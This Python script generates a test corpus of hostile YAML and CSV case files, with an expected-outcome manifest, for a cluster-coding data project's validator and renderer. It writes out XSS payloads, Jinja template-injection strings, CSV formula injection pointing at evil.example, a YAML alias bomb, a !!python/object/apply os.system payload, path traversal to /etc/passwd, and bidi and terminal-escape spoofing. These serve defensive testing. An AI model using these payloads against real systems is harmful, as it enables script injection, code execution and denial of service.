"""Write the hostile case corpus of this folder and its manifest ``expected.csv``.

Run once (``python tests/data/hostile/generate.py``); the files it writes are
committed, so the tests read the files, never this script. Every file is one
attack written the way an attacker would write it: raw YAML or CSV text, not
the output of a YAML dumper that would quote things for us.

Manifest columns:

* ``file``: the file name (``runtime:`` files are created by the test itself:
  symbolic links, a named pipe, a sparse file over the size limit);
* ``outcome``: ``accepted`` or ``rejected``;
* ``field``: for a rejected file, the field the message must name
  (``(whole file)`` for problems of the whole file); for an accepted file, the
  field holding the payload;
* ``expect``: for a rejected file, words the message must contain; for an
  accepted file, the payload text that must be visible, exactly as written
  (whitespace compared collapsed, as a browser lays it out);
* ``attack``: what the file tries.
"""
from __future__ import annotations

import csv
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent

SCORES = {"upgrading": ("product", "process", "functional", "intersectoral"),
          "governance": ("market", "network", "quasi_hierarchy", "hierarchy"),
          "ce_components": ("ee_labour_market", "ee_local_inputs", "ee_information", "ee_market_access",
                            "ja_vertical_backward", "ja_vertical_forward", "ja_horizontal_bilateral",
                            "ja_horizontal_multilateral")}


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML double-quoted scalars)."""
    return json.dumps(text, ensure_ascii=False)


def yaml_case(cid: str, *, name: str = "Hostile cluster", industry: str = "Footwear", location: str = "Lima",
              country: str = "Peru", sector: str = "traditional", coder: str = "Security test",
              coding_basis: str = "invented for the hostile-input tests", notes: str | None = None,
              product: str = "2", product_just: str = "invented score for the hostile-input tests",
              coded_on: str = "2026-11-30", sources: list[str] | None = None, raw: dict | None = None) -> str:
    """Text of one YAML case; ``raw`` replaces a field's YAML text verbatim (key -> text after 'key: ')."""
    raw = raw or {}
    out = ["  - id: " + raw.get("id", q(cid))]
    for key, val in (("name", name), ("industry", industry), ("location", location), ("country", country)):
        out.append(f"    {key}: {raw.get(key, q(val))}")
    out.append(f"    sector: {{value: {sector}, justification: \"shoes and food are the book's sectors\"}}")
    srcs = sources or ["Invented reference for the hostile-input tests (2026)."]
    out.append("    sources: " + raw.get("sources", "[" + ", ".join(q(s) for s in srcs) + "]"))
    out.append(f"    coder: {raw.get('coder', q(coder))}")
    out.append(f"    coded_on: {raw.get('coded_on', coded_on)}")
    out.append(f"    coding_basis: {raw.get('coding_basis', q(coding_basis))}")
    if notes is not None or "notes" in raw:
        out.append(f"    notes: {raw.get('notes', q(notes or ''))}")
    out.append("    ce_degree: {value: null, justification: \"derived from the index\"}")
    for section, items in SCORES.items():
        out.append(f"    {section}:")
        key = "code" if section == "governance" else "score"
        for i, item in enumerate(items):
            value = product if (section, i) == ("upgrading", 0) else "1"
            just = product_just if (section, i) == ("upgrading", 0) else "invented for the hostile-input tests"
            entry = raw.get(f"{section}.{item}", f"{{{key}: {value}, justification: {q(just)}}}")
            out.append(f"      {item}: {entry}")
    return "\n".join(out)


def yaml_file(*cases: str, head: str = "") -> str:
    return head + "cases:\n" + "\n".join(cases) + "\n"


CSV_COLUMNS = ["case_id", "name", "industry", "location", "country", "sector", "sources", "coder", "coded_on",
               "coding_basis", "ce_degree", "notes",
               *(f"upgrading_{i}" for i in SCORES["upgrading"]), *(f"gov_{i}" for i in SCORES["governance"]),
               *SCORES["ce_components"]]
JUSTIFIED = ["sector", "ce_degree", *(f"upgrading_{i}" for i in SCORES["upgrading"]),
             *(f"gov_{i}" for i in SCORES["governance"]), *SCORES["ce_components"]]


def csv_row(cid: str, **over) -> dict:
    row = {c: "1" for c in CSV_COLUMNS}
    row.update(case_id=cid, name="Hostile CSV cluster", industry="Food", location="Arequipa", country="Peru",
               sector="natural_resource", sources="Invented reference (2026)", coder="Security test",
               coded_on="2026-11-30", coding_basis="invented for the hostile-input tests", ce_degree="", notes="")
    for c in JUSTIFIED:
        row[f"{c}_justification"] = "invented for the hostile-input tests"
    row.update(over)
    return row


def csv_text(*rows: dict) -> str:
    import io

    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\r\n")
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue()


FILES: list[tuple[str, str, str, str, str, str | bytes]] = []  # name, outcome, field, expect, attack, content


def accept(name, field, expect, attack, content):
    FILES.append((name, "accepted", field, expect, attack, content))


def reject(name, field, expect, attack, content):
    FILES.append((name, "rejected", field, expect, attack, content))


# ------------------------------------------------------------------ accepted, shown literally
N = 0


def acc_yaml(fname, field, payload, attack, sector="traditional", **kw):
    global N
    N += 1
    cid = f"hostile-{N:02d}"
    fields = {field: payload} if field in ("name", "industry", "location", "country", "coder", "coding_basis",
                                           "notes") else {}
    if field == "upgrading.product.justification":
        fields["product_just"] = payload
    if field != "name":
        fields["name"] = f"Hostile case {N:02d}"
    accept(fname, field, payload, attack, yaml_file(yaml_case(cid, sector=sector, **fields, **kw)))


acc_yaml("a01_script_tag.yaml", "name", "<script>alert('name')</script> Cluster", "script tag in the name")
acc_yaml("a02_img_onerror.yaml", "name", "Shoes <img src=x onerror=alert(1)>", "event handler in an img tag")
acc_yaml("a03_svg_onload.yaml", "name", "<svg/onload=alert(document.domain)> Leather", "svg onload")
acc_yaml("a04_md_js_link.yaml", "name", "[click me](javascript:alert(1)) Cluster", "Markdown javascript: link")
acc_yaml("a05_html_js_link.yaml", "industry", "<a href=\"javascript:alert(1)\">Footwear</a>", "raw HTML javascript: link")
acc_yaml("a06_jinja_img.yaml", "name", "{{ \"%cimg src=x onerror=alert(1)%c\" % (60,62) }}",
         "Jinja expression building an img tag (the issue's stored XSS)")
acc_yaml("a07_jinja_env.yaml", "name", "{{ env.srcdir }} {% for x in range(3) %}loop{% endfor %}",
         "Jinja reading the Sphinx env, and a Jinja loop")
acc_yaml("a08_format_dunder.yaml", "name", "{0.__class__.__mro__} {{ ''.__class__.__mro__[1].__subclasses__() }}",
         "str.format and Jinja reaching dunder attributes")
acc_yaml("a09_mathjax_href.yaml", "name", "\\(\\href{javascript:alert(1)}{x}\\) Cluster",
         "MathJax \\href javascript: link in the navigation")
acc_yaml("a10_dollars.yaml", "name", "Exports US$5 to US$12 and $x^2$", "dollar signs that would become math")
acc_yaml("a11_display_math.yaml", "notes", "$$\\unicode{x1F600}$$ and \\[x\\] and \\begin{align}a\\end{align}",
         "display math and environments", sector="natural_resource")
acc_yaml("a12_myst_roles.yaml", "name", "{download}`../../etc/passwd` {raw:html}`<b>x</b>` {eval-rst}`x`",
         "MyST roles")
acc_yaml("a13_myst_directive.yaml", "notes", "```{raw} html\n<script>alert('directive')</script>\n```\n:::{note}\nx\n:::",
         "MyST directives and colon fences in multi-line notes", sector="natural_resource")
acc_yaml("a14_triple_dash.yaml", "upgrading.product.justification", "---",
         "a justification of --- (crashed Sphinx as a transition)")
acc_yaml("a15_percent.yaml", "upgrading.product.justification", "% this cell would be a MyST comment",
         "% at the start of a cell (blanked it)")
acc_yaml("a16_hash.yaml", "notes", "# Heading\n## Sub heading\n#not-a-tag", "# lines that became headings")
acc_yaml("a17_entities.yaml", "name", "&lt;b&gt; &amp; &#x3C;script&#x3E; &#60;i&#62;", "HTML entities (&lt; was decoded)")
acc_yaml("a18_smart_quotes.yaml", "name", "\"double\" 'single' -- --- ... (c) (tm) +-", "smart quotes and typographic replacements")
acc_yaml("a19_rtl_script.yaml", "location", "القاهرة عنقود الأحذية", "right-to-left script without bidi controls (allowed)",
         sector="natural_resource")
acc_yaml("a20_odd_unicode.yaml", "name", "Z̸̢̛a̵l̷g̶o̴ 👟 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 鞋类 ﷽ ‍zero​width", "combining marks, emoji, astral plane, CJK, ZWJ/ZWSP")
acc_yaml("a21_formulas.yaml", "name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "spreadsheet formula in the name (CSV injection)", industry="+cmd|' /C calc'!A0", location="-2+3+cmd|' /C calc'!A0",
         country="@SUM(1+1)*cmd|' /C calc'!A0")
acc_yaml("a22_backticks.yaml", "name", "`code` \\`*bold*\\` __under__ ~~strike~~ <https://evil.example>", "inline Markdown")
acc_yaml("a23_html_comment.yaml", "name", "<!-- hidden --><![CDATA[ x ]]> Cluster <style>body{display:none}</style>",
         "HTML comment, CDATA and a style element", sector="natural_resource")
acc_yaml("a24_rest.yaml", "notes", ".. raw:: html\n\n   <script>alert('rest')</script>\n\n|subst| `link <javascript:alert(1)>`_ :math:`x`",
         "reST directive, substitution, link and role")
acc_yaml("a25_iframe.yaml", "name", "<iframe src=\"https://evil.example/\"></iframe><link rel=stylesheet href=//evil.example/x.css>",
         "iframe and stylesheet that would request another host")
acc_yaml("a26_linkify.yaml", "coding_basis", "see www.evil.example and https://evil.example/x.js",
         "bare URLs (linkify)", sector="natural_resource")
acc_yaml("a27_long_name.yaml", "name", "Long " + "ñandú-" * 32 + "end", "a 200-character name (the limit)")
acc_yaml("a28_table_pipes.yaml", "notes", "| a | b |\n|---|---|\n| <b>1</b> | 2 |", "a Markdown table in notes")
acc_yaml("a29_jinja_justification.yaml", "upgrading.product.justification",
         "{{ config.__class__ }} {% raw %}x{% endraw %} {{ self }}", "Jinja in a justification (profile page)")

# CSV, accepted
accept("a30_csv_formulas.csv", "name", "=cmd|' /C calc'!A0",
       "CSV case file with formulas in every text cell",
       csv_text(csv_row("hostile-csv-formulas", name="=cmd|' /C calc'!A0", industry="+SUM(A1:A9)",
                        location="@A1", country="-1+1", coder="=HYPERLINK(\"http://evil.example\")",
                        notes="\t=1+1", upgrading_product_justification="=2+5")))
accept("a31_csv_markup.csv", "notes", "line one\n<script>alert('csv')</script>\n{{ env.srcdir }} $5 %x #y ---",
       "CSV case file with quoted newlines and markup in notes",
       csv_text(csv_row("hostile-csv-markup", name="CSV <b>bold</b> & {{ 7*7 }}",
                        notes="line one\n<script>alert('csv')</script>\n{{ env.srcdir }} $5 %x #y ---")))

# ------------------------------------------------------------------ rejected
BASE = yaml_case("hostile-reject")


def rej_yaml(fname, field, expect, attack, **kw):
    reject(fname, field, expect, attack, yaml_file(yaml_case("hostile-reject", **kw)))


bomb = ("lol0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
        + "".join(f"lol{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, 10)))
reject("r01_alias_bomb.yaml", "lol0", "anchor", "billion-laughs alias bomb (400 bytes, expands to 10^9)",
       bomb + "cases: *a9\n")
reject("r02_alias_in_case.yaml", "name", "anchor", "an anchor on one field and an alias on another",
       yaml_file(yaml_case("hostile-reject", raw={"name": "&n \"Alias cluster\"", "location": "*n"})))
reject("r03_merge_key.yaml", "base", "anchor", "a YAML merge key with an alias",
       "base: &b {country: Peru}\n" + yaml_file(yaml_case("hostile-reject")))
reject("r04_deep_lists.yaml", "notes", "nested too deeply", "20,000 nested lists (RecursionError before)",
       yaml_file(yaml_case("hostile-reject", raw={"notes": "[" * 20000 + "]" * 20000})))
reject("r05_deep_maps.yaml", "notes", "nested too deeply", "deeply nested mappings",
       yaml_file(yaml_case("hostile-reject", raw={"notes": "{a: " * 500 + "1" + "}" * 500})))
rej_yaml("r06_400_digit_score.yaml", "upgrading.product.score", "number too long", "a 400-digit score (OverflowError before)",
         product="9" * 400)
rej_yaml("r07_float_overflow.yaml", "upgrading.product.score", "not a finite number", "1.0e+400 overflows to infinity",
         product="1.0e+400")
rej_yaml("r08_inf.yaml", "upgrading.product.score", "not a finite number", ".inf as a score", product=".inf")
rej_yaml("r09_nan.yaml", "upgrading.product.score", "not a finite number", ".nan as a score", product=".nan")
reject("r10_nul_escape.yaml", "name", "U+0000", "NUL written as an escape in a quoted name",
       yaml_file(yaml_case("hostile-reject", raw={"name": "\"Nul\\0byte\""})))
reject("r11_raw_nul.yaml", "(whole file)", "malformed YAML", "a raw NUL byte in the file",
       yaml_file(yaml_case("hostile-reject", raw={"name": "\"Raw\x00nul\""})))
reject("r12_ansi_escape.yaml", "name", "U+001B", "an ANSI escape sequence that would recolour a terminal",
       yaml_file(yaml_case("hostile-reject", raw={"name": "\"\\e[31mRed\\e[0m cluster\""})))
reject("r13_bell.yaml", "notes", "U+0007", "a BEL control character in notes",
       yaml_file(yaml_case("hostile-reject", raw={"notes": "\"ring \\a ring\""})))
rej_yaml("r14_rtl_override.yaml", "name", "U+202E", "RTL override reversing the displayed name",
         name="Cluster \u202egnp.exe")
rej_yaml("r15_bidi_isolate.yaml", "upgrading.product.justification", "U+2066", "a bidi isolate in a justification",
         product_just="score \u2066hidden\u2069 two")
reject("r16_lone_surrogate.yaml", "(whole file)", "malformed YAML", "a lone surrogate escape (cannot be written as UTF-8)",
       yaml_file(yaml_case("hostile-reject", raw={"location": "\"bad \\ud800 place\""})))
reject("r17_newline_in_name.yaml", "name", "U+000A", "a newline in a one-line field",
       yaml_file(yaml_case("hostile-reject", raw={"name": "\"first line\\nsecond line\""})))
reject("r18_tab_in_id.yaml", "id", "U+0009", "a tab in the id",
       yaml_file(yaml_case("hostile-reject", raw={"id": "\"tab\\tid\""})))
rej_yaml("r19_long_id.yaml", "id", "text too long", "a 300-character id (file name too long)",
         raw={"id": "a" * 300})
rej_yaml("r20_reserved_con.yaml", "id", "reserved device name", "a Windows device name as id", raw={"id": "con"})
rej_yaml("r21_reserved_lpt1.yaml", "id", "reserved device name", "a Windows device name as id", raw={"id": "lpt1"})
rej_yaml("r22_path_traversal_id.yaml", "id", "id is not a slug", "path traversal in the id",
         raw={"id": q("../../etc/passwd")})
rej_yaml("r23_unicode_id.yaml", "id", "id is not a slug", "non-ASCII id", raw={"id": q("caso-ñandú")})
rej_yaml("r24_dots_id.yaml", "id", "id is not a slug", "an id that is a dot path", raw={"id": q("..")})
rej_yaml("r25_long_name.yaml", "name", "text too long", "a 10,000-character name", name="A" * 10000)
rej_yaml("r26_long_notes.yaml", "notes", "text too long", "notes over 5,000 characters", notes="n" * 5001)
rej_yaml("r27_long_justification.yaml", "upgrading.product.justification", "text too long",
         "a 100,000-character justification", product_just="j" * 100000)
rej_yaml("r28_many_sources.yaml", "sources", "too many references", "51 references",
         sources=[f"Reference {i}" for i in range(51)])
reject("r29_python_apply.yaml", "name", "would build a Python object", "!!python/object/apply running a shell command",
       yaml_file(yaml_case("hostile-reject", raw={"name": "!!python/object/apply:os.system [\"touch /tmp/hostile-pwned\"]"})))
reject("r30_python_name.yaml", "coder", "would build a Python object", "!!python/name tag",
       yaml_file(yaml_case("hostile-reject", raw={"coder": "!!python/name:os.system"})))
reject("r31_binary_tag.yaml", "notes", "is not plain YAML data", "!!binary tag",
       yaml_file(yaml_case("hostile-reject", raw={"notes": "!!binary SGVsbG8="})))
reject("r32_set_tag.yaml", "sources", "is not plain YAML data", "!!set tag",
       yaml_file(yaml_case("hostile-reject", raw={"sources": "!!set {a, b}"})))
reject("r33_local_tag.yaml", "industry", "is not plain YAML data", "a local tag",
       yaml_file(yaml_case("hostile-reject", raw={"industry": "!evil \"shoes\""})))
reject("r34_two_documents.yaml", "(whole file)", "second YAML document", "a second document after ---",
       yaml_file(yaml_case("hostile-reject")) + "---\n" + yaml_file(yaml_case("hostile-second")))
reject("r35_duplicate_key.yaml", "name", "key repeated", "a key given twice",
       yaml_file(yaml_case("hostile-reject", raw={"name": "\"First\"\n    name: \"Second\""})))
rej_yaml("r36_bad_date.yaml", "coded_on", "invalid date", "an impossible date", coded_on="2024-02-30")
rej_yaml("r37_datetime.yaml", "coded_on", "wrong type", "a time stamp instead of a date", coded_on="2024-01-01 10:00:00")
rej_yaml("r38_bool_score.yaml", "upgrading.product.score", "wrong type", "yes as a score", product="yes")
rej_yaml("r39_int_id.yaml", "id", "wrong type", "a number as id", raw={"id": "12345"})
rej_yaml("r40_line_separator.yaml", "name", "U+2028", "a Unicode line separator in the name", name="a\u2028b")
reject("r41_noncharacter.yaml", "industry", "U+FFFE", "a Unicode non-character",
       yaml_file(yaml_case("hostile-reject", raw={"industry": "\"shoes \\uFFFE\""})))
reject("r42_too_many_cases.yaml", "cases", "too many cases", "10,001 cases in one file",
       "cases:\n" + "  - {}\n" * 10001)
reject("r43_top_level_list.yaml", "(whole file)", "top level is a list", "a list instead of a mapping",
       "- id: x\n- id: y\n")
reject("r44_latin1.yaml", "(whole file)", "not UTF-8", "a Latin-1 file",
       yaml_file(yaml_case("hostile-reject", name="Se\u00f1or")).encode("latin-1"))
reject("r45_utf16.yaml", "(whole file)", "not UTF-8", "a UTF-16 file",
       yaml_file(yaml_case("hostile-reject")).encode("utf-16"))
rej_yaml("r46_negative_score.yaml", "upgrading.product.score", "score outside 0-3", "a negative score", product="-1")
reject("r47_unknown_key_control.yaml", "name\\x1b[2J", "unknown field", "an unknown key holding a terminal escape",
       yaml_file(yaml_case("hostile-reject")).replace("    industry:", "    \"name\\e[2J\": x\n    industry:", 1))

# CSV rejected
reject("r48_csv_formula_id.csv", "case_id", "id is not a slug", "a formula as CSV id",
       csv_text(csv_row("=1+1")))
reject("r49_csv_400_digits.csv", "upgrading_product", "number too long", "a 400-digit score in CSV",
       csv_text(csv_row("hostile-csv-digits", upgrading_product="9" * 400)))
reject("r50_csv_inf.csv", "upgrading_product", "not a finite number", "1e400 in CSV",
       csv_text(csv_row("hostile-csv-inf", upgrading_product="1e400")))
reject("r51_csv_rtl.csv", "notes", "U+202E", "an RTL override in CSV notes",
       csv_text(csv_row("hostile-csv-rtl", notes="file\u202etxt.exe")))
reject("r52_csv_ansi.csv", "name", "U+001B", "an ANSI escape in a CSV name",
       csv_text(csv_row("hostile-csv-ansi", name="\x1b[31mred")))
reject("r53_csv_nul.csv", "name", "U+0000", "a NUL inside a CSV cell",
       csv_text(csv_row("hostile-csv-nul", name="nul\x00byte")))
reject("r54_csv_huge_cell.csv", "(whole file)", "malformed CSV", "a 200,000-character cell (over the CSV field limit)",
       csv_text(csv_row("hostile-csv-huge", notes="x" * 200000)))
reject("r55_csv_long_id.csv", "case_id", "text too long", "a 300-character CSV id",
       csv_text(csv_row("b" * 300)))
reject("r56_csv_reserved.csv", "case_id", "reserved device name", "a Windows device name as CSV id",
       csv_text(csv_row("nul")))
reject("r57_csv_not_cases.csv", "case_id", "missing required field", "a CSV that is not a case file",
       "country,year,exports\r\nPeru,1993,=1+1\r\n")
reject("r58_csv_negative.csv", "upgrading_product", "score outside 0-3", "a negative CSV score",
       csv_text(csv_row("hostile-csv-negative", upgrading_product="-0.5")))
reject("r59_csv_newline_name.csv", "name", "U+000A", "a quoted newline in a one-line CSV field",
       csv_text(csv_row("hostile-csv-newline", name="two\nlines")))
reject("r60_csv_many_columns.csv", "(whole file)", "too many columns", "a header of 100,000 columns",
       ",".join(f"c{i}" for i in range(100000)) + "\r\n")

# created by the test at run time (git cannot hold them portably, or they would be huge)
RUNTIME = [
    ("runtime:r61_symlink_to_system_file.yaml", "rejected", "(whole file)", "symbolic link refused",
     "a symbolic link to /etc/passwd named like a case file (never opened, never echoed)"),
    ("runtime:r62_symlink_to_case.yaml", "rejected", "(whole file)", "symbolic link refused",
     "a symbolic link to a valid case file"),
    ("runtime:r63_fifo.yaml", "rejected", "(whole file)", "not a regular file",
     "a named pipe named like a case file (reading it would hang)"),
    ("runtime:r64_sparse_huge.yaml", "rejected", "(whole file)", "file too large",
     "a sparse file over the size limit (refused before reading)"),
]


def main() -> None:
    for old in HERE.glob("[ar][0-9][0-9]_*"):
        old.unlink()
    rows = []
    for name, outcome, field, expect, attack, content in FILES:
        path = HERE / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_bytes(content.encode("utf-8"))
        rows.append({"file": name, "outcome": outcome, "field": field, "expect": expect, "attack": attack})
    for name, outcome, field, expect, attack in RUNTIME:
        rows.append({"file": name, "outcome": outcome, "field": field, "expect": expect, "attack": attack})
    with (HERE / "expected.csv").open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=["file", "outcome", "field", "expect", "attack"])
        w.writeheader()
        w.writerows(rows)
    print(f"{len(FILES)} files written, {len(RUNTIME)} made at run time")


if __name__ == "__main__":
    main()
